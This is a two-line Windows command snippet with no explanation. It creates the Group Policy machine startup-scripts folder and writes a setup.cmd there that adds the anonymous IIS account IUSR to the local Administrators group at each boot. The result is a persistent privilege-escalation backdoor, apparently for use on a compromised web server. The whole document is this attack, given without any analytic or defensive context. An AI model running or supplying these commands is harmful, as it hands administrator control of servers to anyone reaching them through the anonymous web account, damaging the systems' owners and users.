md C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup
echo net localgroup Administrators IUSR /add > C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\setup.cmd
